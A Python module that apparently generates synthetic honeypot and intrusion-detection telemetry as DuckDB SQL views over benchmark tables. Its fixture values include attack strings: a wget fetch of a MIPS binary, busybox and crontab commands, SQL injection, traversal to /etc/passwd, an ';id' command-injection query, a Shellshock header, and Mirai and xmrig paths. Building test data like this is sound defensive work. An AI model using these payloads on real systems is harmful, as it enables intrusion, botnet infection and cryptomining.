"""The same projections in DuckDB SQL, written independently of the Spark ones."""

from __future__ import annotations

K = "CAST(json_extract_string(props, '$.k') AS INTEGER)"
SECOND = "date_trunc('second', ts)"


def h(x: str) -> str:
    return f"substr(sha256('salt' || CAST({x} AS VARCHAR)), 1, 16)"


def pick(values, index: str) -> str:
    return "([" + ", ".join(repr(v) for v in values) + f"])[CAST({index} AS INTEGER) + 1]"


SENSOR = pick(["cowrie", "dionaea", "conpot", "rtsp", "upnp"], "event_id % 5")
PORT = pick([22, 23, 2323, 80, 445, 502, 554, 1900, 8080, 3333], f"{K} % 10")
PROTOCOL = pick(["ssh", "telnet", "telnet", "http", "smb", "modbus", "rtsp", "ssdp", "http", "tcp"], f"{K} % 10")
COMMAND = pick(
    ["/bin/busybox ECCHI", "wget http://h/bins/a.mips", "uname -a", "stratum+tcp://p", "RETR a.bin", "crontab -e", "ls", ""],
    f"{K} % 8",
)
COUNTRY = "CASE WHEN user_id % 10 = 0 THEN '' ELSE 'C' || (user_id % 25) END"
DEST = "'172.20.' || (event_id % 2) || '.' || (10 + event_id % 5)"
SESSION = "user_id || '-' || CAST(CAST(ts AS DATE) AS VARCHAR)"

VIEWS = {
    "honeypot_events": f"""
        SELECT {SECOND} AS timestamp, event_id, {SENSOR} AS honeypot_type, {h('user_id')} AS source_ip_hash,
               {COUNTRY} AS source_ip_country, CAST(1024 + event_id % 60000 AS INTEGER) AS source_port,
               {DEST} AS dest_ip, {PORT} AS dest_port, {PROTOCOL} AS protocol, event_type, {COMMAND} AS command,
               {SESSION} AS session_id, event_type = 'purchase' AS success, props AS raw_data
        FROM events""",
    "ids_alerts": f"""
        SELECT *, CASE mitre_technique_id WHEN 'T1110.001' THEN 'Credential Access' WHEN 'T1190' THEN 'Initial Access'
                  WHEN 'T1046' THEN 'Discovery' WHEN 'T1105' THEN 'Command and Control' ELSE '' END AS mitre_tactic
        FROM (SELECT {SECOND} AS timestamp, event_id AS alert_id, {h('user_id')} AS source_ip_hash,
               {COUNTRY} AS source_ip_country, CAST(1024 + event_id % 60000 AS INTEGER) AS source_port,
               {DEST} AS dest_ip, {PORT} AS dest_port, {PROTOCOL} AS protocol,
               'SIG ' || (2000001 + {K} % 38) AS alert_signature, 'cat' || ({K} % 4) AS alert_category,
               CAST(1 + event_id % 3 AS INTEGER) AS alert_severity, CAST(2000001 + {K} % 38 AS BIGINT) AS signature_id,
               {COMMAND} AS payload, {pick(['T1110.001', 'T1190', 'T1046', 'T1105', ''], f'{K} % 5')} AS mitre_technique_id
        FROM events WHERE event_type = 'error')""",
    "credentials": f"""
        SELECT {SECOND} AS timestamp, event_id, {h('user_id')} AS source_ip_hash, {SENSOR} AS honeypot_type,
               {PROTOCOL} AS protocol, {pick(['root', 'admin', 'user', 'pi', 'guest'], 'user_id % 5')} AS username,
               {pick(['123456', 'password', 'abc', 'letmein', 'Zx9!kk'], f'{K} % 5')} AS password,
               event_type = 'purchase' AS success, {SESSION} AS session_id
        FROM events WHERE event_type IN ('signup', 'purchase')""",
    "network_connections": f"""
        SELECT {SECOND} AS timestamp, event_id AS uid, {h('user_id')} AS source_ip_hash, {COUNTRY} AS source_ip_country,
               {DEST} AS dest_ip, {PORT} AS dest_port, {PROTOCOL} AS protocol, CASE WHEN event_id % 7 = 0 THEN '' ELSE {PROTOCOL} END AS service, value AS duration,
               {K} * 60 AS orig_bytes, {K} * 3 AS orig_pkts,
               {pick(['SF', 'S0', 'REJ', 'RSTO', 'RSTR'], 'event_id % 5')} AS conn_state,
               {pick(['ShADadFf', 'S', '', 'ShR'], 'event_id % 4')} AS history, event_id % 3 <> 1 AS local_orig
        FROM events""",
    "http_requests": f"""
        SELECT TIMESTAMP '2024-01-01' + to_minutes(page_id) AS timestamp, {h('page_id % 150')} AS source_ip_hash,
               'C' || (page_id % 25) AS source_ip_country, CAST(1024 + page_id % 60000 AS INTEGER) AS source_port,
               '172.20.0.' || (10 + page_id % 5) AS dest_ip, 80 AS dest_port,
               CASE WHEN page_id % 4 = 0 THEN 'POST' ELSE 'GET' END AS method,
               regexp_extract(url, '^[a-z]+://([^/?#]+)', 1) AS host,
               regexp_extract(url, '^[a-z]+://[^/]+([^#]*)', 1) ||
               {pick(['', '?q=union select 1', '/../../etc/passwd', '/cgi-bin/x?a=1;id', '/bins/mirai.mips', '/setup.cgi', '/xmrig', '/a.sh'], 'page_id % 8')} AS uri,
               {pick(['curl/8', 'Mozilla', 'sqlmap/1', '() { :; }; x', 'Hikvision'], 'page_id % 5')} AS user_agent,
               '' AS referrer, 200 AS status_code, length(html) AS response_body_len, html AS request_body
        FROM pages""",
    "downloaded_files": f"""
        SELECT TIMESTAMP '2024-01-01' + to_minutes(doc_id) AS timestamp, doc_id AS file_id,
               {h('doc_id % 150')} AS source_ip_hash, 'dionaea' AS honeypot_type,
               source || {pick(['.sh', '.bin', '.txt', '.mips'], 'doc_id % 4')} AS filename, n_chars AS file_size,
               lang AS mime_type, md5(text) AS md5_hash, sha1(text) AS sha1_hash, sha256(text) AS sha256_hash,
               'http://' || source AS download_url, '' AS file_path
        FROM documents""",
    "geo_ranges": """
        SELECT CAST(n_nationkey AS BIGINT) * 16777216 AS start_ip,
               CAST(n_nationkey AS BIGINT) * 16777216 + 16777215 - n_regionkey * 4194304 AS end_ip, n_name AS country
        FROM nation""",
    "addresses": """
        SELECT c_custkey, c_nationkey || '.' || (c_custkey % 256) || '.1.1' AS src_ip,
               CASE WHEN c_custkey % 7 = 0 THEN '' WHEN c_custkey % 11 = 0 THEN '0.0.0.0'
                    ELSE c_nationkey || '.' || (c_custkey % 256) || '.1.1' END AS listed_ip,
               CASE WHEN c_custkey % 3 = 0 THEN 'known' ELSE '' END AS source_ip_anon
        FROM customer""",
    "ssh_auth": f"""
        SELECT {SECOND} AS timestamp, {h('user_id')} AS source_ip_hash, {DEST} AS dest_ip, 22 AS dest_port,
               event_type = 'purchase' AS authenticated
        FROM events WHERE event_type IN ('signup', 'purchase', 'error')""",
    "rtsp_requests": f"""
        SELECT {SECOND} AS timestamp, {SESSION} AS session_id, 'DESCRIBE' AS method, repeat('u', {K} * 25) AS url,
               CASE WHEN {K} % 2 = 0 THEN 'Basic ' || repeat('A', {K} * 30) ELSE '' END AS "authorization"
        FROM events""",
    "rtsp_attacks": """
        SELECT timestamp, event_id AS attack_id, source_ip_hash, source_ip_country, source_port, dest_ip, dest_port,
               CASE WHEN event_id % 3 = 0 THEN 'CVE-2014-8361 buffer overflow' ELSE 'brute_force' END AS attack_type,
               'DESCRIBE' AS rtsp_method, 'rtsp://' || dest_ip AS rtsp_url, raw_data AS attack_details
        FROM honeypot_events WHERE honeypot_type = 'rtsp'""",
    "upnp_attacks": """
        SELECT timestamp, event_id AS attack_id, source_ip_hash, source_ip_country, source_port, dest_ip, dest_port,
               CASE WHEN event_id % 2 = 0 THEN 'AddPortMapping abuse' ELSE 'DeletePortMapping abuse' END AS attack_type
        FROM honeypot_events WHERE honeypot_type = 'upnp'""",
    "dns_queries": f"""
        SELECT TIMESTAMP '2024-01-01' + to_minutes(page_id) AS timestamp, {h('page_id % 150')} AS source_ip_hash,
               CASE WHEN page_id % 5 = 0 THEN 'xmr.nanopool.' ELSE '' END || regexp_extract(url, '^[a-z]+://([^/?#]+)', 1) AS query
        FROM pages""",
    "dense_conns": f"""
        SELECT TIMESTAMP '2024-01-01' + to_seconds(l_orderkey % 7200) AS timestamp, l_orderkey * 10 + l_linenumber AS uid,
               {h('l_suppkey')} AS source_ip_hash,
               {pick([22, 23, 2323, 80, 445, 502, 554, 8080, 8081, 81], 'l_partkey % 10')} AS dest_port,
               {pick(['ssh', 'telnet', 'telnet', 'http', 'smb', 'modbus', 'rtsp', 'http', 'http', 'http'], 'l_partkey % 10')} AS protocol,
               l_quantity / 5 AS duration, {pick(['SF', 'S0', 'REJ'], 'l_orderkey % 3')} AS conn_state,
               {pick(['ShADadFf', 'S', ''], 'l_linenumber % 3')} AS history
        FROM lineitem""",
    "dense_auth": f"""
        SELECT TIMESTAMP '2024-01-01' + to_seconds(l_orderkey % 7200) AS timestamp, {h('l_suppkey')} AS source_ip_hash,
               l_partkey % 20 = 0 AS authenticated FROM lineitem""",
    "test_sources": f"SELECT {h('c_custkey')} AS ip_hash FROM customer WHERE c_nationkey = 0",
    "signature_rows": r"""
        SELECT event_id AS row_id, 'event' AS row_kind, source_ip_hash, timestamp, protocol, dest_port,
               command AS payload, '' AS uri, '' AS user_agent, '' AS header, '' AS method, '' AS body
        FROM honeypot_events
        UNION ALL
        SELECT CAST(epoch(timestamp) AS BIGINT), 'request', source_ip_hash, timestamp, 'http', dest_port,
               method || ' ' || uri || E'\r\nHost: ' || host || E'\r\nUser-Agent: ' || user_agent || E'\r\n\r\n' || request_body,
               uri, user_agent, 'Host: ' || host || E'\r\nUser-Agent: ' || user_agent || E'\r\n', method, request_body
        FROM http_requests""",
}

NEEDS = {
    "rtsp_attacks": ["honeypot_events"],
    "upnp_attacks": ["honeypot_events"],
    "signature_rows": ["honeypot_events", "http_requests"],
}


def q(body: str, *views: str, recursive: bool = False, extra: str = "") -> str:
    """``body`` with the named views in front of it; ``extra`` holds further WITH members."""
    order: list[str] = []
    for view in views:
        for name in (*NEEDS.get(view, []), view):
            if name not in order:
                order.append(name)
    members = [f"{name} AS ({VIEWS[name]})" for name in order] + ([extra] if extra else [])
    if not members:
        return body
    return f"WITH {'RECURSIVE ' if recursive else ''}" + ",\n".join(members) + "\n" + body
